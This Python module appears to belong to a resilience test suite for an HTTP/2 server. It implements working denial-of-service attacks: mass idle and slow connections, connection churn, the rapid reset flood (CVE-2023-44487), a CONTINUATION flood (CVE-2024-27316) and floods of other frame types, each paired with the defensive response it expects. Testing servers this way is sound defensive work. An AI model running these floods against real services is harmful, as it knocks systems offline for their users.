"""Connections: many of them, slow ones, and HTTP/2 that goes on for ever without saying anything."""

from __future__ import annotations

import contextlib
import resource
import socket
import struct
import time
from collections import Counter
from collections.abc import Callable
from typing import Final

from attack.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    GET_TASK,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    call,
    connected,
    frame,
    in_words,
    message,
    opening,
    packed,
    request,
    said,
)
from attack.site import Place
from attack.trials import Attack, tried
from tables.sections import Section

MANY: Final = 1_000
_HELD_S: Final = 2.0
_FLOOD: Final = 100_000
_BATCH: Final = 1_000


def sections() -> list[Section]:
    """Return the tables."""
    return [tried("Connections, many and slow", attacks()), tried("HTTP/2 out of bounds", floods())]


def attacks(many: int = MANY) -> list[Attack]:
    """Return what is tried with connections."""
    return [
        Attack(name="idle", run=idle, arguments=(many,), sent=f"{many:,} connections, not a byte", expected="open"),
        Attack(
            name="a call on each", run=calls, arguments=(many,), sent=f"{many:,} connections at once with a call each",
            expected=rf"^{many:,} x answered$", left_mib=64,
        ),
        Attack(
            name="slow prefaces", run=slow, arguments=(many // 2, "preface"), sent=f"{many // 2:,} HTTP/2 prefaces, byte by byte",
            expected="open|closed",
        ),
        Attack(
            name="slow headers", run=slow, arguments=(many // 2, "headers"), sent=f"{many // 2:,} half headers, byte by byte",
            expected="open|closed",
        ),
        Attack(
            name="slow bodies", run=slow, arguments=(many // 2, "body"), sent=f"{many // 2:,} calls with half a message",
            expected="open|closed", left_mib=64,
        ),
        Attack(
            name="half calls", run=half_calls, arguments=(10 * many,), sent=f"{10 * many:,} calls without their message",
            expected="RST_STREAM (REFUSED_STREAM|ENHANCE_YOUR_CALM)|GOAWAY", left_mib=64,
        ),
        Attack(
            name="connect and reset", run=churn, arguments=(5 * many,), sent=f"{5 * many:,} connections, each reset at once",
            expected=rf"^{5 * many:,} x connected$",
        ),
    ]  # fmt: skip


def floods(size: int = _FLOOD) -> list[Attack]:
    """Return what is tried with frames."""
    kinds: dict[str, tuple[str, str]] = {
        "rapid reset": ("calls, each reset at once (CVE-2023-44487)", "ENHANCE_YOUR_CALM"),
        "pings": ("PING frames", "PING ack|GOAWAY|closed"),
        "settings": ("SETTINGS frames", "GOAWAY|closed|answer"),
        "empty data": ("empty DATA frames of one call", "answer|GOAWAY|closed|RST|silence"),
        "window updates": ("WINDOW_UPDATE frames", "answer|GOAWAY|closed"),
        "priorities": ("PRIORITY frames", "answer|GOAWAY|closed"),
        "continuations": ("CONTINUATION frames of one header block (CVE-2024-27316)", "GOAWAY|closed|RST|silence"),
        "unknown frames": ("frames of an unknown kind", "answer|GOAWAY|closed"),
    }
    return [
        Attack(name=name, run=flood, arguments=(name, size), sent=f"{size:,} {sent}", expected=expected)
        for name, (sent, expected) in kinds.items()
    ]


def idle(place: Place, count: int) -> str:
    """Open connections and say nothing."""
    with contextlib.ExitStack() as opened:
        found = _opened(place, count, opened)
        time.sleep(_HELD_S)
        return _fate(found)


def calls(place: Place, count: int) -> str:
    """Call once on each of many connections, all at once."""
    answers: Counter[str] = Counter()
    with contextlib.ExitStack() as opened:
        found = _opened(place, count, opened)
        for each in found:
            each.sendall(opening() + call(1))
        for each in found:
            told = said(each, for_s=20.0, answers=1)
            answers["answered" if told["answer ends"] else in_words(told)] += 1
    return ", ".join(f"{number:,} x {name}" for name, number in answers.most_common(4))


def slow(place: Place, count: int, where: str) -> str:
    """Begin on many connections, and go on a byte at a time."""
    block = frame(HEADERS, 0, 1, request())
    body = frame(HEADERS, END_HEADERS, 1, request(GET_TASK)) + frame(DATA, 0, 1, message(b"x" * 100, length=1_000))
    begun, rest = {
        "preface": (PREFACE[:5], PREFACE[5:]),
        "headers": (opening() + block[:20], block[20:]),
        "body": (opening() + body, frame(DATA, 0, 1, b"x") * 20),
    }[where]
    with contextlib.ExitStack() as opened:
        found = _opened(place, count, opened)
        for each in found:
            each.sendall(begun)
        for position in range(8):
            time.sleep(0.25)
            for each in found:
                with contextlib.suppress(OSError):
                    each.sendall(rest[position : position + 1])
        return _fate(found)


def half_calls(place: Place, count: int) -> str:
    """Begin many calls on one connection and send none of their messages."""
    with connected(place.port) as connection:
        connection.sendall(opening())
        block = request(GET_TASK)
        sent = _pour(connection, lambda number: frame(HEADERS, END_HEADERS, 2 * number + 1, block), count)
        found = said(connection, for_s=_HELD_S)
        return f"{sent:,} x open; {in_words(found)}"


def churn(place: Place, count: int) -> str:
    """Connect and reset, again and again."""
    done = 0
    for _ in range(count):
        with contextlib.suppress(OSError), socket.create_connection((place.host, place.port), 5) as each:
            each.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            each.send(PREFACE)
            done += 1
    return f"{done:,} x connected"


def flood(place: Place, kind: str, count: int) -> str:
    """Send many frames of a kind on one connection, and then a call where it is still open."""
    block = request()
    makers: dict[str, Callable[[int], bytes]] = {
        "rapid reset": lambda number: (
            frame(HEADERS, END_HEADERS, 2 * number + 3, block)
            + frame(RST_STREAM, 0, 2 * number + 3, struct.pack(">I", 8))
        ),
        "pings": lambda number: frame(PING, payload=struct.pack(">Q", number)),
        "settings": lambda number: frame(SETTINGS, payload=struct.pack(">HI", 4, 65_535 + number % 2)),
        "empty data": lambda _: frame(DATA, 0, 1),
        "window updates": lambda _: frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)),
        "priorities": lambda number: frame(PRIORITY, 0, 2 * number + 3, struct.pack(">IB", 0, 7)),
        "continuations": lambda number: frame(CONTINUATION, 0, 1, packed([(f"x-{number}", "y" * 50)])),
        "unknown frames": lambda _: frame(0x42, 0, 0, b"x" * 16),
    }
    starts = {
        "empty data": frame(HEADERS, END_HEADERS, 1, block),
        "continuations": frame(HEADERS, 0, 1, block),
    }
    with connected(place.port) as connection:
        connection.sendall(opening() + starts.get(kind, b""))
        sent = _pour(connection, makers[kind], count)
        last = 2 * count + 5
        with contextlib.suppress(OSError):
            connection.sendall(b"" if kind in starts else call(last))
        found = said(connection, for_s=_HELD_S, answers=None if kind in starts else 1)
        cut = f" after {sent:,}" if sent < count else ""
        return f"{in_words(found)}{cut}"


def _pour(connection: socket.socket, make: Callable[[int], bytes], count: int) -> int:
    """Send many frames in large pieces, reading what comes so that nobody is stuck; return how many were taken."""
    for begun in range(0, count, _BATCH):
        piece = b"".join(make(number) for number in range(begun, min(begun + _BATCH, count)))
        try:
            connection.settimeout(5.0)
            connection.sendall(piece)
            connection.settimeout(0.0)
            while connection.recv(1 << 20):
                pass
        except BlockingIOError:
            continue
        except OSError:
            return begun
        return begun
    return count


def _opened(place: Place, count: int, stack: contextlib.ExitStack) -> list[socket.socket]:
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    return [stack.enter_context(connected(place.port)) for _ in range(count)]


def _fate(connections: list[socket.socket]) -> str:
    """Return how many of the connections are still open."""
    fates: Counter[str] = Counter()
    for each in connections:
        each.settimeout(0.0)
        try:
            while piece := each.recv(65_536):
                del piece
            fates["closed"] += 1
        except BlockingIOError:
            fates["open"] += 1
        except OSError:
            fates["closed"] += 1
    return ", ".join(f"{number:,} x {name}" for name, number in fates.most_common())
